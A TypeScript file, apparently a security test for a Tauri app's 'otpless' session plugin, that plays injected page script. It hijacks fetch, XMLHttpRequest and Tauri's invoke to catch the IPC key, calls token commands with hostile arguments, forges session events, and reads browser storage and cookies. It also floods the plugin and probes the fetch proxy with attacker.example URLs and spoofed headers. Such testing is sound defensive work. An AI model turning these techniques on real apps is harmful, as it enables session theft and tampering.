/**
 * What script that got into a page can try, one attempt after the other, with nothing of this project's in its hands: only what
 * Tauri puts into every page. Everything it gets hold of is in the answer, for whoever wants to look through it.
 */

interface Internals {
  invoke(command: string, args?: unknown, options?: unknown): Promise<unknown>;
  transformCallback(callback: (data: unknown) => void, once?: boolean): number;
  runCallback(id: number, data: unknown): void;
}

/** What one call came to. */
export interface Outcome {
  /** What the call was made with, in words. */
  with: string;
  ok: boolean;
  /** The answer, or what it was refused with. */
  answer: unknown;
}

/** All that was got hold of. */
export interface Loot {
  commands: Record<string, Outcome[]>;
  /** Whatever came by on a listener or a callback. */
  heard: unknown[];
  storage: Record<string, unknown>;
  /** The tries from inside a frame. */
  frames: Record<string, unknown>;
  /** What a patched `fetch`, `XMLHttpRequest` and `postMessage` have seen pass. */
  overheard: string[];
  /** What lies about in the page: names of globals and the text of scripts. */
  lying: Record<string, unknown>;
  flood: { calls: number; answered: number };
  forged: Outcome[];
  /** What a page that may use `fetch` made of it. */
  backend: Outcome[];
}

/** Where a page that may use `fetch` is let loose. */
export interface Backends {
  /** One that sends a request's own headers back. */
  own: string;
  /** Another origin in the scope. */
  other: string;
}

const COMMANDS = [
  "get_session",
  "logout",
  "record_activity",
  "verify_session",
  "refresh_session",
  "start_session",
  "get_session_token",
  "get_session_details",
  "diagnostics",
  "fetch",
  "fetch_write",
  "fetch_send",
  "fetch_read",
  "fetch_cancel",
  // Names that somebody might have forgotten.
  "get_refresh_token",
  "refresh_token",
  "get_tokens",
  "get_credentials",
  "export",
  "debug",
  "set_config",
  "GET_SESSION_TOKEN",
  "get_session_token ",
  "../get_session_token",
  "__proto__",
] as const;

/** Those of other plugins and of the app's that lead to files or windows. */
const ELSEWHERE: readonly (readonly [string, unknown])[] = [
  ["plugin:store|load", { path: "otpless.json" }],
  ["plugin:store|get", { rid: 1, key: "otpless" }],
  ["plugin:store|entries", { rid: 1 }],
  ["plugin:resources|close", { rid: 1 }],
  ["plugin:webview|create_webview_window", { options: { label: "main", url: "index.html" } }],
  ["plugin:window|create", { options: { label: "main" } }],
  ["plugin:fs|read_text_file", { path: "otpless-store.txt" }],
  ["plugin:http|fetch", { clientConfig: { method: "GET", url: "https://otpless.com", headers: [] } }],
  ["plugin:keyring|get", {}],
  ["rehearse_keychain", { locked: true }],
  ["rehearse_sleep", { seconds: 86400 }],
];

const EVENTS = [
  "otpless://session-changed",
  "otpless://token",
  "otpless://refresh",
  "rehearsal-changed",
  "tauri://focus",
  "tauri://webview-created",
  "*",
] as const;

const FLOOD = 3_000;

/** Longer than any answer takes that comes at all. */
const PATIENCE_MS = 10_000;

function internals(of: Window = window): Internals {
  return (of as unknown as { __TAURI_INTERNALS__: Internals }).__TAURI_INTERNALS__;
}

/** Arguments nobody expects, and what they are in words. Made anew for each call. */
function hostileArguments(): [string, unknown][] {
  let deep: unknown = "x";
  for (let level = 0; level < 100; level += 1) {
    deep = { result: deep };
  }
  const polluted = JSON.parse('{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}') as unknown;
  return [
    ["nothing", undefined],
    ["null", { result: null, minValidity: null, request: null, call: null }],
    ["numbers", { result: -1, minValidity: -1, request: 1e300, call: -1 }],
    ["a large number", { minValidity: Number.MAX_VALUE, call: Number.MAX_SAFE_INTEGER }],
    ["a guessed number", { minValidity: 0, call: 1 }],
    ["texts", { result: "x".repeat(100_000), minValidity: "30", request: "", call: "0" }],
    ["lists", { result: [], minValidity: [1], request: [[]], call: [0] }],
    ["depths", deep],
    ["another prototype", polluted],
    ["a sign-in of the attacker's", { result: { sessionInfo: { sessionId: "a", sessionToken: "b.c.d", refreshToken: "b.c.d" } } }],
    ["a URL of the attacker's", { request: { method: "GET", url: "https://attacker.example/", headers: [] } }],
    ["raw bytes", new Uint8Array([0, 255, 123])],
  ];
}

async function attempt(words: string, act: () => unknown): Promise<Outcome> {
  try {
    const answer = await inTime(Promise.resolve(act()));
    return { with: words, ok: answer !== NO_ANSWER, answer: legible(answer) };
  } catch (error) {
    return { with: words, ok: false, answer: plain(error) };
  }
}

/** Tauri lets a call with a wrong key stand. */
const NO_ANSWER = "no answer";

function inTime<T>(answer: Promise<T>): Promise<T | typeof NO_ANSWER> {
  return Promise.race([answer, new Promise<typeof NO_ANSWER>((resolve) => setTimeout(resolve, PATIENCE_MS, NO_ANSWER))]);
}

/** As something that JSON keeps. */
function plain(value: unknown): unknown {
  return value instanceof Error ? { name: value.name, message: value.message, stack: value.stack } : legible(value);
}

/** Bytes as the text that they are. */
function legible(value: unknown): unknown {
  return value instanceof ArrayBuffer || ArrayBuffer.isView(value) ? new TextDecoder("latin1").decode(value) : value;
}

/** Puts itself between the page and the network, before anything else runs. Answers how to take it back. */
function eavesdrop(overheard: string[], keys: Set<string>): () => void {
  const note = (what: string, ...parts: unknown[]): void => {
    overheard.push([what, ...parts.map((part) => (typeof part === "string" ? part : JSON.stringify(plain(part))))].join(" "));
  };
  const { fetch, postMessage } = window;
  const { send, open } = XMLHttpRequest.prototype;
  const tauri = internals();
  const { invoke, runCallback } = tauri;
  window.fetch = async (input, init) => {
    const headers = new Headers(init?.headers);
    note("fetch", String(input instanceof Request ? input.url : input), String(legible(init?.body ?? "")), [...headers]);
    const key = headers.get("Tauri-Invoke-Key");
    if (key !== null) keys.add(key);
    const response = await fetch.call(window, input, init);
    note("fetched", await response.clone().text().catch(String), [...response.headers]);
    return response;
  };
  XMLHttpRequest.prototype.open = function (this: XMLHttpRequest, ...args: unknown[]) {
    note("XMLHttpRequest", args.join(" "));
    return (open as (...args: unknown[]) => void).apply(this, args);
  };
  XMLHttpRequest.prototype.send = function (body) {
    note("sent", String(body));
    this.addEventListener("load", () => note("received", String(this.response)));
    return send.call(this, body);
  };
  window.postMessage = ((...args: unknown[]) => {
    note("postMessage", args[0]);
    return (postMessage as (...args: unknown[]) => void).apply(window, args);
  }) as typeof window.postMessage;
  // Tauri's own object may be frozen; then there is that much less to hear.
  try {
    tauri.invoke = (command, args, options) => {
      note("invoke", command, args ?? null);
      return invoke.call(tauri, command, args, options);
    };
    tauri.runCallback = (id, data) => {
      note("callback", data ?? null);
      return runCallback.call(tauri, id, data);
    };
  } catch (error) {
    note("cannot patch", error);
  }
  return () => {
    Object.assign(window, { fetch, postMessage });
    Object.assign(XMLHttpRequest.prototype, { open, send });
    try {
      Object.assign(tauri, { invoke, runCallback });
    } catch {
      // Never patched.
    }
  };
}

async function listenToEverything(heard: unknown[]): Promise<void> {
  for (const event of EVENTS) {
    for (const target of [{ kind: "Any" }, { kind: "App" }, { kind: "AnyLabel", label: "main" }]) {
      const handler = internals().transformCallback((data) => heard.push(data));
      heard.push(await attempt(`listening to ${event}`, () => internals().invoke("plugin:event|listen", { event, target, handler })));
    }
  }
}

/** Events that would make the other pages believe what is not so. */
async function forge(): Promise<Outcome[]> {
  const payloads = [
    { revision: Number.MAX_SAFE_INTEGER, status: "signedOut", reason: "revoked" },
    { revision: -1, status: "active", sessionToken: "a.b.c" },
    "signedOut",
    null,
  ];
  const forged: Outcome[] = [];
  for (const payload of payloads) {
    for (const target of [undefined, { kind: "AnyLabel", label: "main" }]) {
      const command = target === undefined ? "plugin:event|emit" : "plugin:event|emit_to";
      const args = { event: "otpless://session-changed", payload, ...(target && { target }) };
      forged.push(await attempt(JSON.stringify(args), () => internals().invoke(command, args)));
    }
  }
  return forged;
}

async function readStorage(): Promise<Record<string, unknown>> {
  const look = async (read: () => unknown): Promise<unknown> => (await attempt("", read)).answer;
  return {
    localStorage: await look(() => ({ ...localStorage })),
    sessionStorage: await look(() => ({ ...sessionStorage })),
    databases: await look(() => indexedDB.databases()),
    caches: await look(() => caches.keys()),
    cookies: document.cookie,
    "window name": window.name,
    "history state": history.state as unknown,
  };
}

/** A frame has a script world of its own, into which Tauri may have put something, and which patches do not reach. */
async function tryFrames(key: string): Promise<Record<string, unknown>> {
  const tried: Record<string, unknown> = {};
  for (const [name, prepare] of [
    ["about:blank", () => {}],
    ["srcdoc", (frame: HTMLIFrameElement) => (frame.srcdoc = "<script>parent.framed = true</script>")],
    ["another page of the app", (frame: HTMLIFrameElement) => (frame.src = "/index.html")],
    ["the IPC itself", (frame: HTMLIFrameElement) => (frame.src = "ipc://localhost/plugin%3Aotpless%7Cget_session_token")],
  ] as const) {
    const frame = document.createElement("iframe");
    prepare(frame);
    const loaded = new Promise((resolve) => frame.addEventListener("load", resolve, { once: true }));
    document.body.append(frame);
    tried[name] = await attempt(name, async () => {
      await inTime(loaded);
      const inside = frame.contentWindow as Frame | null;
      if (inside === null) return "no window";
      const tauri = internals(inside);
      return {
        text: tauri === undefined ? inside.document.documentElement.outerHTML : undefined,
        invoked: tauri && (await both((command) => tauri.invoke(command))),
        byHand: await both((command) => byHand(command, key, inside.fetch.bind(inside))),
        byMessage: await both((command) => byMessage(command, key, inside)),
      };
    });
    frame.remove();
  }
  return tried;
}

type Frame = Window & typeof globalThis & { webkit?: { messageHandlers?: { ipc?: { postMessage(message: string): void } } } };

/** What every page may have, to see whether the way is one at all, and what this one may not. */
async function both(invoke: (command: string) => unknown): Promise<{ session: Outcome; token: Outcome }> {
  return {
    session: await attempt("get_session", () => invoke("plugin:otpless|get_session")),
    token: await attempt("get_session_token", () => invoke("plugin:otpless|get_session_token")),
  };
}

/** Tauri's IPC by hand, past everything that Tauri's script does. */
async function byHand(command: string, key: string | undefined, fetcher: typeof fetch): Promise<unknown> {
  const response = await fetcher(`ipc://localhost/${encodeURIComponent(command)}`, {
    method: "POST",
    body: "{}",
    headers: {
      "Content-Type": "application/json",
      "Tauri-Callback": "1",
      "Tauri-Error": "2",
      ...(key !== undefined && { "Tauri-Invoke-Key": key }),
    },
  });
  const text = await response.text();
  if (response.headers.get("Tauri-Response") !== "ok") throw new Error(`${response.status}: ${text}`);
  return JSON.parse(text) as unknown;
}

/** The same the way Tauri goes where a webview has no such protocol; the answer comes to the page around the frame. */
function byMessage(command: string, key: string, from: Frame): Promise<unknown> {
  return new Promise((resolve, reject) => {
    const [callback, error] = [resolve, reject].map((settle) => internals().transformCallback(settle, true));
    const options = { customProtocolIpcBlocked: true };
    const ipc = from.webkit?.messageHandlers?.ipc;
    if (ipc === undefined) throw new Error("no such way");
    ipc.postMessage(JSON.stringify({ cmd: command, callback, error, payload: {}, options, __TAURI_INVOKE_KEY__: key }));
  });
}

async function callByHand(key: string): Promise<Outcome[]> {
  const outcomes: Outcome[] = [];
  for (const [words, tried] of [
    ["no key", undefined],
    ["an empty key", ""],
    ["a guessed key", "guessed"],
    ["the overheard key", key],
  ] as const) {
    const { session, token } = await both((command) => byHand(command, tried, window.fetch.bind(window)));
    outcomes.push({ ...session, with: `get_session with ${words}` }, { ...token, with: `get_session_token with ${words}` });
  }
  return outcomes;
}

/** A page that may call its backend makes the most of that: other headers, other places, other people's calls, more of them. */
async function abuseFetch({ own, other }: Backends): Promise<Outcome[]> {
  const invoke = (command: string, args: unknown): Promise<unknown> => internals().invoke(`plugin:otpless|${command}`, args);
  const open = (request: object): Promise<unknown> => invoke("fetch", { request });
  const whole = async (request: object): Promise<unknown> => {
    const call = await open(request);
    const head = (await invoke("fetch_send", { call })) as { body: string };
    return { head, body: head.body === "stream" ? legible(await invoke("fetch_read", { call })) : "" };
  };
  const outcomes: Outcome[] = [];
  const tries: [string, object][] = [
    ["its own headers back", { url: `${own}/echo` }],
    ["a redirect elsewhere", { url: `${own}/redirect?to=${encodeURIComponent(`${other}/seen`)}` }],
    ["a redirect elsewhere and back", { url: `${own}/redirect?to=${encodeURIComponent(`${other}/redirect?to=${own}/echo`)}` }],
    ["outside of the scope", { url: "https://attacker.example/" }],
    ...["Authorization", "Cookie", "Host", "X-Forwarded-Host", "X-Original-URL", "Proxy-Authorization"].map(
      (name): [string, object] => [`the header ${name}`, { url: `${own}/echo`, headers: [[name, "attacker"]] }],
    ),
  ];
  for (const [words, request] of tries) {
    outcomes.push(await attempt(words, () => whole(request)));
  }
  const call = (await open({ url: `${own}/echo` })) as number;
  for (const guess of [0, 1, 2, 7, call - 1, call + 1, -call, Number.MAX_SAFE_INTEGER]) {
    outcomes.push(await attempt("the number of somebody else's call", () => invoke("fetch_read", { call: guess })));
  }
  const opened = await Promise.allSettled(Array.from({ length: FLOOD }, () => open({ url: `${own}/echo` })));
  const count = opened.filter(({ status }) => status === "fulfilled").length;
  outcomes.push({ with: `${FLOOD} calls at once`, ok: true, answer: count });
  for (const one of opened) {
    if (one.status === "fulfilled") await attempt("", () => invoke("fetch_cancel", { call: one.value }));
  }
  return outcomes;
}

function lookAround(): Record<string, unknown> {
  const globals = Object.getOwnPropertyNames(window).filter((name) => /tauri|otpless|token|session|refresh/i.test(name));
  const seen: Record<string, unknown> = { globals };
  for (const name of globals) {
    try {
      const value = (window as unknown as Record<string, unknown>)[name];
      seen[name] = JSON.stringify(value, (_, inner: unknown) => (typeof inner === "function" ? String(inner) : inner));
    } catch (error) {
      seen[name] = plain(error);
    }
  }
  seen["scripts"] = [...document.scripts].map((script) => script.outerHTML);
  return seen;
}

/** As many calls at once as it can make; how many were answered at all, and with what is not of interest. */
async function flood(): Promise<Loot["flood"]> {
  const commands = ["refresh_session", "verify_session", "get_session", "record_activity", "get_session_token"];
  const calls = Array.from({ length: FLOOD }, (_, n) => internals().invoke(`plugin:otpless|${commands[n % commands.length]}`));
  const answers = await Promise.allSettled(calls);
  return { calls: FLOOD, answered: answers.length };
}

async function callWithEverything(command: string): Promise<Outcome[]> {
  const outcomes: Outcome[] = [];
  for (const [words, args] of hostileArguments()) {
    // A piece of a body says in a header whose it is.
    const options = { headers: { "otpless-call": "1" } };
    outcomes.push(await attempt(words, () => internals().invoke(`plugin:otpless|${command}`, args, options)));
  }
  return outcomes;
}

/** What anybody may do to themselves, and what ends the show. */
export function attackLogout(): Promise<Outcome[]> {
  return callWithEverything("logout");
}

/** Everything but `logout`. With `backends` also what `fetch` is good for. */
export async function attack(backends?: Backends): Promise<Loot> {
  const overheard: string[] = [];
  const heard: unknown[] = [];
  const keys = new Set<string>();
  const takeBack = eavesdrop(overheard, keys);
  await listenToEverything(heard);
  const commands: Loot["commands"] = {};
  for (const command of COMMANDS) {
    if (command !== "logout") commands[command] = await callWithEverything(command);
  }
  const key = [...keys][0] ?? "none was overheard";
  commands["by hand"] = await callByHand(key);
  commands["elsewhere"] = [];
  for (const [command, args] of ELSEWHERE) {
    // Granted to the main window, and would end the session that the rest is about.
    if (backends !== undefined && command.startsWith("rehearse_")) continue;
    commands["elsewhere"].push(await attempt(command, () => internals().invoke(command, args)));
  }
  const frames = await tryFrames(key);
  const forged = await forge();
  const storage = await readStorage();
  const lying = lookAround();
  takeBack();
  const backend = backends === undefined ? [] : await abuseFetch(backends);
  return { commands, heard, storage, frames, overheard, lying, flood: await flood(), forged, backend };
}
